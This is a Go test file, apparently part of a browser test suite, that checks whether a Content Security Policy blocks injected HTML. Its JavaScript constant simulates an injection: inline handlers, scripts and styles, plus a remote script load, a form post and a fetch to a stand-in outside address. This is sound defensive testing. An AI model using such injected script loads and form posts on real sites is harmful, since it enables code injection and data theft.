package windowtest

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// tries are the actions of injected HTML. They report what the browser blocked, and
// what happened.
const tries = `new Promise((done) => {
	const kept = [];
	const outside = 'http://198.51.100.7';
	document.addEventListener('securitypolicyviolation', (e) => {
		kept.push(e.effectiveDirective + ' ' + e.blockedURI);
		if (kept.length === 9) { end() }
	});
	const end = () => done(kept.sort().concat('did ' + (window.did ?? 'nothing'), 'outline ' + getComputedStyle(document.body).outlineStyle));
	const add = (name, values) => document.body.appendChild(Object.assign(document.createElement(name), values));
	const handler = add('div');
	handler.setAttribute('onclick', "window.did = 'handler'");
	handler.click();
	add('script', { textContent: "window.did = 'script'" });
	add('style', { textContent: 'body { outline: 7px solid red }' });
	add('script', { src: outside + '/a.js' });
	add('link', { rel: 'stylesheet', href: outside + '/a.css' });
	add('img', { src: outside + '/a.png' });
	add('iframe', { src: outside + '/a.html' });
	add('form', { action: outside + '/a', method: 'post' }).submit();
	fetch(outside + '/a.json').catch(() => {});
	setTimeout(end, 20_000); // which is long behind the last one
})`

// TestPolicyHolds: by the program's policy, injected HTML has no effect and sends no
// request.
func TestPolicyHolds(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	p := start(t, "teams_credits", "prompt")
	b.enter(p)
	got := js[[]string](b, tries)
	want := []string{
		"connect-src http://198.51.100.7/a.json", "form-action http://198.51.100.7/a", "frame-src http://198.51.100.7",
		"img-src http://198.51.100.7/a.png", "script-src-attr inline", "script-src-elem http://198.51.100.7/a.js", "script-src-elem inline",
		"style-src-elem http://198.51.100.7/a.css", "style-src-elem inline", "did nothing", "outline none",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("kept from, and done (-want +got):\n%s", diff)
	}
	if address := js[string](b, "location.href"); strings.Contains(address, "198.51.100.7") {
		t.Errorf("the page went to %s", address)
	}
}
